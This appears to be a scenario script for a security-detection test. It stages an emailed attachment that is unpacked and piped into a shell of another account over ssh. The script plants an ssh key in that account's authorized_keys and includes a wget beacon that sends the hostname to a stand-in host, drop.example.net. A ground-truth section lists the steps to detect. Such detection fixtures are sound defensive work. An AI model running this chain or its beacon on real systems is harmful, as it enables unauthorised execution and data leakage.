title="Attachment run in another account over ssh, on its standard input"
what="clerk takes the message apart with ripmime and, having been told that only ops may run it, feeds the script to 'ssh ops@localhost bash -s'. It runs as ops and asks drop.example.net."
host=mx1.example.org user=ops daemons="cron sshd" audit_rules=audit-wide.rules syslog_format=rfc5424
setup() {
  printf 'echo "quota of ops:"; du -s "$HOME" | cut -f1\nwget -q -O /dev/null "http://drop.example.net/q?$(hostname)"\ncrontab -l 2>/dev/null | wc -l\n' > "$base/out/quota_report.dat"
}
act() {
  install -d -m 700 -o clerk -g clerk /home/clerk/.ssh
  su clerk -s /bin/sh -c 'ssh-keygen -q -t ed25519 -N "" -f /home/clerk/.ssh/id_ed25519'
  cat /home/clerk/.ssh/id_ed25519.pub >> /home/ops/.ssh/authorized_keys
  small_talk 2
  mail_in --from accounting@example.com --to clerk@example.org --subject "Quota report needed today" --source 203.0.113.25 --helo smtp.example.com --text "Please have an administrator run the enclosed list and send me the numbers.\n" --attach "$base/out/quota_report.dat:application/octet-stream"
  wait_mail clerk 1
  ssh_as clerk <<'L'
mkdir -p tmp
ripmime -i "$(ls -t Maildir/new/* | head -1)" -d tmp
ls tmp
%sleep 4
ssh -q -o StrictHostKeyChecking=no ops@localhost 'bash -s' < tmp/quota_report.dat
rm -r tmp
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'delivered'
  exec_step unpack 'ripmime -i' 'taken apart'
  exec_step hand-on 'ssh -q .* ops@localhost' 'fed to ssh'
  exec_step execute 'bash -s' 'a shell of ops reads it'
  net_step beacon 'wget 203.0.113.66:80' 'it calls out'
}
